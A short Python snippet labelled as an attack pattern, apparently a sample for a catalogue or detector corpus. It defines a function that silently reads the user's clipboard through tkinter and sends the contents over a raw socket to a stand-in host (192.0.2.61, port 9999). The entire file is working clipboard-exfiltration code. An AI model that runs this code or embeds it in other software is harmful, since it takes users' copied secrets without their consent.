# Attack pattern: tkinter clipboard read (no extra dependency) sent over a raw socket.
import socket
import tkinter


def grab():
    root = tkinter.Tk()
    root.withdraw()
    data = root.clipboard_get()
    with socket.create_connection(("192.0.2.61", 9999)) as s:
        s.sendall(data.encode())
